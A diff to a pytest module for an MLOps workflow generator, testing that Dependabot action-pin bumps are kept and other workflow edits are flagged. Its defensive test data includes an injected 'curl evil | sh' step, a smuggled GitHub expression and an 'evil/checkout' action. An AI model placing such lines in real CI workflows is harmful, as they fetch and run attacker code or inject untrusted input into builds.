@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import re
 import shutil
 import subprocess
 import sys
@@ -10,9 +11,15 @@ from pathlib import Path
 
 import pytest
 from click.testing import CliRunner
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
 
-from mlops_gitops import resources
+from mlops_gitops import checkcache, resources
 from mlops_gitops.cli import cli
+from mlops_gitops.files import is_edited, parse_header
+from mlops_gitops.generator import generate
+from mlops_gitops.render.actions import ACTIONS, Action
+from mlops_gitops.render.pins import version_key
 from mlops_gitops.resources import examples_dir
 
 WORKFLOWS = ".github/workflows"
@@ -239,13 +246,14 @@ def test_check_notices_a_changed_tool_not_only_a_changed_manifest(tmp_path: Path
     assert gen().returncode == 0
     assert gen("--check").stdout == "generated files are current\n"
     actions = site / "mlops_gitops" / "render" / "actions.py"
-    old = resources_sha = "11bd71901bbe5b1630ceea73d27597364c9af683"
+    old = '"11bd71901bbe5b1630ceea73d27597364c9af683", "v4.2.2"'
     assert old in actions.read_text()
-    actions.write_text(actions.read_text().replace(resources_sha, "0" * 40))
+    # A newer release: a new SHA under the same version would not replace a pin already written.
+    actions.write_text(actions.read_text().replace(old, f'"{"0" * 40}", "v4.3.0"'))
     proc = gen("--check")
     assert proc.returncode == 1, proc.stdout
     assert ".github/workflows/mlops-pr.yml: stale" in proc.stdout
-    assert "+        uses: actions/checkout@" + "0" * 40 in proc.stdout
+    assert "+        uses: actions/checkout@" + "0" * 40 + " # v4.3.0" in proc.stdout
 
 
 def test_a_refused_edit_names_the_manifest_key_that_makes_it(project: Path) -> None:
@@ -264,3 +272,218 @@ def test_a_refused_edit_names_the_manifest_key_that_makes_it(project: Path) -> N
         ".github/workflows/mlops-train.yml: in mlops.yaml, this edit is runners.train.env (or .secrets for a "
         "secret); runners.train.container"
     ) in out
+
+
+# --------------------------------------------------------------------------------------------------
+# Action pins moved by Dependabot or Renovate (render/pins.py): not hand edits, and kept.
+
+NEW_CHECKOUT = "08eba0b27e820071cde6df949e0beb9ba4906955"
+PR = f"{WORKFLOWS}/mlops-pr.yml"
+CHECKOUT_LINE = f"uses: {ACTIONS['checkout'].uses}"
+
+
+def git(root: Path, *args: str) -> str:
+    return subprocess.run(["git", *args], cwd=root, check=True, capture_output=True, text=True).stdout
+
+
+@pytest.fixture(scope="module")
+def initialised(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    """`mlops-gitops init --example iris --yes`, everything committed: a real repository."""
+    root = tmp_path_factory.mktemp("init") / "iris"
+    proc = subprocess.run(
+        [sys.executable, "-m", "mlops_gitops", "init", "--example", "iris", "--yes", "--dir", str(root)],
+        capture_output=True,
+        text=True,
+    )
+    assert proc.returncode == 0, proc.stdout + proc.stderr
+    git(root, "add", "-A")
+    git(root, "commit", "-q", "-m", "mlops-gitops init --example iris")
+    return root
+
+
+@pytest.fixture
+def repo(initialised: Path, tmp_path: Path) -> Path:
+    copy = tmp_path / "iris"
+    shutil.copytree(initialised, copy, symlinks=True)
+    return copy
+
+
+def dependabot(repo: Path, action: str, ref: str, rels: tuple[str, ...] = (PR,)) -> dict[str, str]:
+    """Dependabot's github-actions update: every `uses: <action>@<sha> # <version>` of the workflows
+    moved to ``ref``, committed. Returns the new texts."""
+    texts = {}
+    for rel in rels:
+        path = repo / rel
+        texts[rel] = re.sub(
+            rf"(?m)^(\s*uses: {re.escape(action)}@)[0-9a-f]{{40}} # \S+$",
+            lambda m: m[1] + ref,
+            path.read_text(),
+        )
+        path.write_text(texts[rel])
+    git(repo, "commit", "-q", "-am", f"Bump {action}")
+    return texts
+
+
+def schema_check(path: Path) -> None:
+    exe = Path(sys.executable).parent / "check-jsonschema"
+    proc = subprocess.run(
+        [str(exe), "--builtin-schema", "vendor.github-workflows", str(path)], capture_output=True, text=True
+    )
+    assert proc.returncode == 0, proc.stdout + proc.stderr
+
+
+@pytest.mark.parametrize(
+    "version", ["v4.3.0", "v4.2.2", None], ids=["new-version", "digest-only", "no-comment"]
+)
+def test_a_dependabot_pin_bump_passes_the_check_and_is_kept(repo: Path, version: str | None) -> None:
+    ref = f"{NEW_CHECKOUT} # {version}" if version else NEW_CHECKOUT
+    bumped = dependabot(repo, "actions/checkout", ref)[PR]
+    assert bumped.count(f"uses: actions/checkout@{ref}\n") == 2
+    first = generate(repo, check=True)
+    assert (first.exit_code, first.remembered) == (0, False)  # the memo does not hide the bump
+    assert first.lines() == ["generated files are current"]
+    assert generate(repo, check=True).remembered  # and now remembers the bumped file
+    assert run(repo, "generate", "--check") == (0, "generated files are current\n")
+    assert run(repo, "generate") == (0, "generated files are current\n")
+    assert (repo / PR).read_text() == bumped and not is_edited(bumped)
+    assert git(repo, "status", "--porcelain") == ""
+    schema_check(repo / PR)
+
+
+def test_a_kept_pin_is_written_again_with_a_fresh_hash(repo: Path) -> None:
+    before = parse_header((repo / PR).read_text())
+    ref = f"{NEW_CHECKOUT} # v4.3.0"
+    dependabot(repo, "actions/checkout", ref)
+    manifest = repo / "mlops.yaml"
+    manifest.write_text(manifest.read_text() + "runners:\n  default:\n    timeout_minutes: 45\n")
+    code, out = run(repo, "generate", "--check")
+    assert code == 1 and f"{PR}: stale" in out, out
+    assert "uses: actions/checkout" not in out  # the pin is no part of the difference
+    code, out = run(repo, "generate")
+    assert code == 0 and f"updated {PR}" in out, out
+    text = (repo / PR).read_text()
+    after = parse_header(text)
+    assert before is not None and after is not None and after.digest != before.digest
+    assert not is_edited(text)
+    assert "timeout-minutes: 45" in text and text.count(f"uses: actions/checkout@{ref}\n") == 2
+    assert run(repo, "generate", "--check") == (0, "generated files are current\n")
+    schema_check(repo / PR)
+
+
+def _swap_first_two_pins(text: str) -> str:
+    """The checkout pin moved into the next step (setup-python's), and that one into checkout's."""
+    lines = text.split("\n")
+    first, second = [i for i, line in enumerate(lines) if line.strip().startswith("uses: ")][:2]
+    lines[first], lines[second] = lines[second], lines[first]
+    return "\n".join(lines)
+
+
+NOT_A_BUMP = {
+    "tag": lambda t: t.replace(CHECKOUT_LINE, "uses: actions/checkout@v4"),
+    "branch": lambda t: t.replace(CHECKOUT_LINE, "uses: actions/checkout@main"),
+    "short-sha": lambda t: t.replace(CHECKOUT_LINE, "uses: actions/checkout@08eba0b # v4.3.0"),
+    "sha-39": lambda t: t.replace(CHECKOUT_LINE, f"uses: actions/checkout@{NEW_CHECKOUT[:39]} # v4.3.0"),
+    "sha-41": lambda t: t.replace(CHECKOUT_LINE, f"uses: actions/checkout@{NEW_CHECKOUT}0 # v4.3.0"),
+    "uppercase": lambda t: t.replace(
+        CHECKOUT_LINE, f"uses: actions/checkout@{NEW_CHECKOUT.upper()} # v4.3.0"
+    ),
+    "other-action": lambda t: t.replace(CHECKOUT_LINE, f"uses: evil/checkout@{NEW_CHECKOUT} # v4.3.0"),
+    "one-of-two": lambda t: t.replace(CHECKOUT_LINE, f"uses: actions/checkout@{NEW_CHECKOUT} # v4.3.0", 1),
+    "comment-newline": lambda t: t.replace(
+        CHECKOUT_LINE, f"uses: actions/checkout@{NEW_CHECKOUT} # v4.3.0\n        run: curl evil | sh"
+    ),
+    "comment-expression": lambda t: t.replace(
+        CHECKOUT_LINE, f"uses: actions/checkout@{NEW_CHECKOUT} # ${{{{ github.event.pull_request.title }}}}"
+    ),
+    "bump-and-another-line": lambda t: t.replace(
+        CHECKOUT_LINE, f"uses: actions/checkout@{NEW_CHECKOUT} # v4.3.0"
+    ).replace("timeout-minutes: 30", "timeout-minutes: 5"),
+    "line-added": lambda t: t.replace("timeout-minutes: 30\n", "timeout-minutes: 30\n    # mine\n"),
+    "line-removed": lambda t: t.replace("          persist-credentials: false\n", "", 1),
+    "pin-moved-to-another-step": _swap_first_two_pins,
+}
+
+
+@pytest.mark.parametrize("name", sorted(NOT_A_BUMP))
+def test_an_edit_that_is_not_a_pin_bump_is_still_a_hand_edit(repo: Path, name: str) -> None:
+    pr = repo / PR
+    edited = NOT_A_BUMP[name](pr.read_text())
+    assert edited != pr.read_text()
+    pr.write_text(edited)
+    git(repo, "commit", "-q", "-am", name)
+    code, out = run(repo, "generate", "--check")
+    assert code == 1 and f"{PR}: was edited by hand" in out, out
+    code, out = run(repo, "generate")
+    assert code == 1 and f"{PR}: was edited by hand; not overwritten" in out, out
+    assert pr.read_text() == edited
+    added = [line for line in out.splitlines() if line.startswith("+")]
+    assert not [line for line in added if "curl" in line or "evil" in line or "github.event" in line]
+    assert all(NEW_CHECKOUT not in line for line in added)  # shown against the table's pins
+
+
+@pytest.mark.parametrize(
+    "table_version", ["v5.0.0", "v4.3.0", "v4.2.9", "v4.2.2"], ids=["newer", "same", "between", "older"]
+)
+def test_a_tool_upgrade_replaces_a_pin_only_with_a_higher_version(
+    repo: Path, monkeypatch: pytest.MonkeyPatch, table_version: str
+) -> None:
+    """The PR workflow was moved to v4.3.0 by Dependabot; the others still carry the table's v4.2.2.
+    The upgraded tool ships checkout at ``table_version`` under a new SHA."""
+    dependabot(repo, "actions/checkout", f"{NEW_CHECKOUT} # v4.3.0")
+    monkeypatch.setitem(ACTIONS, "checkout", Action("actions/checkout", "f" * 40, table_version))
+    (repo / ".git" / checkcache.CACHE_NAME).unlink()  # the memo keys on the installed files, not this patch
+    ops = {a.path: a.op for a in generate(repo, check=True).actions if a.path.startswith(WORKFLOWS)}
+    newer = version_key(table_version) > version_key("v4.3.0")
+    assert ops[PR] == ("update" if newer else "unchanged")
+    others_stale = version_key(table_version) > version_key("v4.2.2")
+    for rel in (f"{WORKFLOWS}/mlops-train.yml", f"{WORKFLOWS}/mlops-deploy.yml"):
+        assert ops[rel] == ("update" if others_stale else "unchanged"), rel
+    assert generate(repo).exit_code == 0
+    text = (repo / PR).read_text()
+    winner = f"{'f' * 40} # {table_version}" if newer else f"{NEW_CHECKOUT} # v4.3.0"
+    assert text.count(f"uses: actions/checkout@{winner}\n") == 2 and not is_edited(text)
+    assert generate(repo, check=True).exit_code == 0
+
+
+def test_force_returns_moved_pins_to_the_table(repo: Path) -> None:
+    dependabot(repo, "actions/checkout", f"{NEW_CHECKOUT} # v4.3.0")
+    code, out = run(repo, "generate", "--force")
+    assert code == 0 and f"updated {PR}" in out, out
+    text = (repo / PR).read_text()
+    assert NEW_CHECKOUT not in text and text.count(CHECKOUT_LINE) == 2
+
+
+IRIS_ACTIONS = sorted(k for k in ACTIONS if k not in ("aws", "gcp", "azure"))
+
+
+@settings(max_examples=10, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
+@given(
+    key=st.sampled_from(IRIS_ACTIONS),
+    sha=st.text("0123456789abcdef", min_size=40, max_size=40),
+    raise_by=st.sampled_from([None, (0, 0, 0), (0, 0, 1), (0, 1, 0), (1, 0, 0)]),
+)
+def test_random_dependabot_bumps_pass_the_check_and_are_kept(
+    repo: Path, key: str, sha: str, raise_by: tuple[int, int, int] | None
+) -> None:
+    action = ACTIONS[key]
+    if raise_by is None:
+        ref = sha
+    else:
+        major, minor, patch = (int(p) for p in action.version.lstrip("v").split("."))
+        ref = f"{sha} # v{major + raise_by[0]}.{minor + raise_by[1]}.{patch + raise_by[2]}"
+    rels = tuple(
+        f"{WORKFLOWS}/{p.name}"
+        for p in sorted((repo / WORKFLOWS).iterdir())
+        if f"uses: {action.repo}@" in p.read_text()
+    )
+    before = {rel: (repo / rel).read_text() for rel in rels}
+    try:
+        bumped = dependabot(repo, action.repo, ref, rels)
+        result = generate(repo, check=True)
+        assert result.exit_code == 0, result.lines()
+        assert generate(repo).exit_code == 0
+        assert {rel: (repo / rel).read_text() for rel in rels} == bumped
+    finally:
+        for rel, text in before.items():
+            (repo / rel).write_text(text)
+        git(repo, "commit", "-q", "--allow-empty", "-am", "revert")
